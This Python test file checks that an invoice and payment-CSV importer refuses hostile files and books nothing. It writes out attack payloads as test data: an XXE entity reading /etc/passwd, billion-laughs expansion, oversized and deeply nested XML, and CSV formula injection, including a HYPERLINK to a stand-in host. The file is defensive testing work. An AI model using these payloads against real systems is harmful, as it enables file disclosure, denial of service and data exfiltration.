"""Hostile files are refused with a clear message and nothing of them is booked: XML with an
external entity or a billion-laughs expansion, a 200 MB file, formulas in CSV text (never
executed, escaped in any export), text that is not UTF-8, negative or absurd amounts,
dates in the future."""

from __future__ import annotations

import datetime as dt
from decimal import Decimal
from pathlib import Path

import pytest
from sqlalchemy import Engine, insert

from hbdesk.server.money import demo_files, importer, queue, tables
from tests.server.money.conftest import SELLER, SELLER_ID, TODAY, booked
from tests.server.money.county import Client

PASSWD_MARK = "root:x:0:0"


def _invoice(number: str = "1001", **kwargs: object) -> bytes:
    return demo_files.finvoice(
        seller_id=SELLER_ID,
        seller_name=SELLER,
        number=number,
        issued=dt.date(2026, 11, 30),
        rows=[demo_files.Row("Henkilökohtainen apu, marraskuu", Decimal("300.00"), Decimal(0))],
        references=("MS-2026-0001",),
        **kwargs,  # type: ignore[arg-type]
    )


def _run(engine: Engine, kind: str, path: Path) -> importer.Report:
    return importer.run(engine, kind, path, issuer="ePassi", today=TODAY)


def test_a_good_invoice_is_booked_so_the_refusals_below_mean_something(
    engine: Engine, client: Client, tmp_path: Path
) -> None:
    path = tmp_path / "ok.xml"
    path.write_bytes(_invoice())
    report = _run(engine, "invoices", path)
    assert (report.booked, report.refused, report.file_refused) == (1, [], None)
    assert booked(engine) == 1


def test_an_external_entity_is_refused_and_never_read(
    engine: Engine, client: Client, tmp_path: Path
) -> None:
    good = _invoice().decode()
    evil = good.replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<?xml version="1.0" encoding="UTF-8"?>\n'
        '<!DOCTYPE Finvoice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    ).replace(f"<SellerOrganisationName>{SELLER}<", "<SellerOrganisationName>&xxe;<")
    path = tmp_path / "xxe.xml"
    path.write_text(evil)
    report = _run(engine, "invoices", path)
    assert report.file_refused is not None and report.file_refused.code == "dtd"
    assert "DTD" in report.summary() and "nothing was booked" in report.summary()
    assert booked(engine) == 0
    assert PASSWD_MARK not in report.summary()


def test_a_billion_laughs_is_refused_without_expanding(
    engine: Engine, client: Client, tmp_path: Path
) -> None:
    lol = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    good = _invoice().decode()
    evil = good.replace(
        '<?xml version="1.0" encoding="UTF-8"?>',
        '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE Finvoice [' + "".join(lol) + "]>",
    ).replace(f"<SellerOrganisationName>{SELLER}<", "<SellerOrganisationName>&lol9;<")
    path = tmp_path / "lol.xml"
    path.write_text(evil)
    report = _run(engine, "invoices", path)
    assert report.file_refused is not None and report.file_refused.code == "dtd"
    assert booked(engine) == 0


def test_an_entity_hidden_after_good_invoices_books_none_of_them(
    engine: Engine, client: Client, tmp_path: Path
) -> None:
    """The whole file is judged before anything in it is booked."""
    evil = (
        _invoice("1003")
        .decode()
        .replace(
            '<?xml version="1.0" encoding="UTF-8"?>',
            '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE x [<!ENTITY e "e">]>',
        )
    )
    path = tmp_path / "mixed.xml"
    path.write_bytes(_invoice("1001") + _invoice("1002") + evil.encode())
    report = _run(engine, "invoices", path)
    assert report.file_refused is not None and booked(engine) == 0


@pytest.mark.parametrize("kind", ["invoices", "mobile", "vouchers"])
def test_a_200_mb_file_is_refused_before_it_is_read(
    engine: Engine, client: Client, tmp_path: Path, kind: str
) -> None:
    path = tmp_path / "huge"
    with open(path, "wb") as f:  # made here, never committed: 200 MB, mostly a hole
        f.write(b"card_id;merchant;category;amount;time\n" if kind == "mobile" else b"<?xml ")
        f.truncate(200 * 1024 * 1024)
    report = _run(engine, kind, path)
    assert report.file_refused is not None and report.file_refused.code == "too_large"
    assert "200 MB" in report.summary()
    assert booked(engine) == 0


def _mobile(tmp_path: Path, *rows: str) -> Path:
    path = tmp_path / "mobiili.csv"
    path.write_text(
        "transaction_id;card_id;merchant;category;amount;time\n" + "\n".join(rows) + "\n"
    )
    return path


def test_formulas_in_csv_text_are_refused_and_named(
    engine: Engine, client: Client, tmp_path: Path
) -> None:
    path = _mobile(
        tmp_path,
        'T1;C-1;"=HYPERLINK(""http://evil.invalid/?""&A1;""Kuntosali"")";sports;12,50;2026-11-03T10:00',
        "T2;C-1;@SUM(A1:A9);sports;12,50;2026-11-03T10:00",
        "T3;C-1;+Kuntosali;sports;12,50;2026-11-03T10:00",
        "T4;C-1;@SUM(A1:A9);sports;12,50;2026-11-03T10:00",  # the same again: refused again
        "T5;C-1;Kuntosali;=1+1;12,50;2026-11-03T10:00",
        "T6;=C-1;Kuntosali;sports;12,50;2026-11-03T10:00",
        "T7;=C-1;Kuntosali;sports;12,50;2026-11-03T10:00",
    )
    report = _run(engine, "mobile", path)
    assert [(p.where, p.code) for p in report.refused] == [
        ("line 2, merchant", "formula"),
        ("line 3, merchant", "formula"),
        ("line 4, merchant", "formula"),
        ("line 5, merchant", "formula"),
        ("line 6, category", "formula"),
        ("line 7, card_id", "formula"),
        ("line 8, card_id", "formula"),
    ]
    assert booked(engine) == 0 and report.booked == 0


def test_a_formula_that_reached_the_queue_is_escaped_in_its_export(
    engine: Engine, tmp_path: Path
) -> None:
    """Whatever way a would-be formula got into the queue (an older version, a person's
    note), the CSV written for the county's staff keeps it as text."""
    with engine.begin() as conn:
        conn.execute(
            insert(tables.items).values(
                item_key="mobile:ePassi:T9",
                kind="mobile",
                state="queued",
                reason="unmatched",
                amount="12.50",
                spent_on=dt.date(2026, 11, 3),
                provider='=HYPERLINK("http://evil.invalid","x")',
                reference="-2+3",
                place="line 2",
                received_at=dt.datetime(2026, 12, 1, tzinfo=dt.UTC),
            )
        )
    out = tmp_path / "queue.csv"
    queue.export_csv(engine, out)
    text = out.read_text()
    assert "'=HYPERLINK(" in text and "'-2+3" in text
    assert ";=HYPERLINK" not in text and "\n=" not in text


def test_text_that_is_not_utf8_is_refused_with_its_line(
    engine: Engine, client: Client, tmp_path: Path
) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes(
        "transaction_id;card_id;merchant;category;amount;time\n"
        "T1;C-1;Kuntosali;sports;12,50;2026-11-03T10:00\n"
        "T2;C-1;Kahvila Äijä;leisure;4,50;2026-11-03T11:00\n".encode("latin-1")
    )
    report = _run(engine, "mobile", path)
    assert report.file_refused is not None and report.file_refused.code == "not_utf8"
    assert "line 3" in report.summary() and "UTF-8" in report.summary()
    assert booked(engine) == 0


def test_xml_that_is_not_utf8_books_nothing(engine: Engine, client: Client, tmp_path: Path) -> None:
    path = tmp_path / "latin1.xml"
    path.write_bytes(_invoice().decode().replace(SELLER, "Äijälän Apu Oy").encode("latin-1"))
    report = _run(engine, "invoices", path)
    assert [p.code for p in report.refused] == ["not_xml"]
    assert booked(engine) == 0


def test_negative_absurd_and_future_amounts_are_refused_and_named(
    engine: Engine, client: Client, tmp_path: Path
) -> None:
    path = _mobile(
        tmp_path,
        "T1;C-1;Kuntosali;sports;-12,50;2026-11-03T10:00",
        "T2;C-1;Kuntosali;sports;9999999,00;2026-11-03T10:00",
        "T3;C-1;Kuntosali;sports;12,50;2027-01-03T10:00",
        "T4;C-1;Kuntosali;sports;1e3;2026-11-03T10:00",
    )
    report = _run(engine, "mobile", path)
    assert [(p.where, p.code) for p in report.refused] == [
        ("line 2, amount", "negative_amount"),
        ("line 3, amount", "absurd_amount"),
        ("line 4, time", "future_date"),
        ("line 5, amount", "not_an_amount"),
    ]
    assert booked(engine) == 0


def test_a_time_with_no_day_in_helsinki_refuses_its_row_not_the_file(
    engine: Engine, client: Client, tmp_path: Path
) -> None:
    """A time the reader takes, whose offset puts it before year 1 or after 9999 once in
    Helsinki's time, is its row's refusal: the rows around it are still booked."""
    path = _mobile(
        tmp_path,
        "T1;C-1;Kuntosali;sports;12,50;0001-01-01T00:00+02:00",
        "T2;C-1;Kuntosali;sports;12,50;2026-11-03T10:00",
        "T3;C-1;Kuntosali;sports;12,50;9999-12-31T23:59-02:00",
    )
    report = _run(engine, "mobile", path)
    assert report.file_refused is None
    assert [(p.where, p.code) for p in report.refused] == [
        ("line 2, time", "not_a_time"),
        ("line 4, time", "not_a_time"),
    ]
    assert (report.booked, booked(engine)) == (1, 1)


def test_an_invoice_dated_in_the_future_or_negative_is_refused(
    engine: Engine, client: Client, tmp_path: Path
) -> None:
    future = _invoice("1001").decode().replace("20261130", "20270115")
    negative = _invoice("1002").decode().replace(">300,00<", ">-300,00<")
    path = tmp_path / "bad.xml"
    path.write_text(future + negative)
    report = _run(engine, "invoices", path)
    assert [p.code for p in report.refused] == ["future_date", "negative_amount"]
    assert "message 1 (invoice 1001)" in report.refused[0].where
    assert booked(engine) == 0


def test_deeply_nested_xml_is_refused_without_a_crash(
    engine: Engine, client: Client, tmp_path: Path
) -> None:
    path = tmp_path / "deep.xml"
    path.write_text('<?xml version="1.0"?>' + "<a>" * 50_000 + "</a>" * 50_000)
    report = _run(engine, "invoices", path)
    assert [p.code for p in report.refused] == ["not_xml"]
    assert "depth" in report.refused[0].text.lower() and booked(engine) == 0
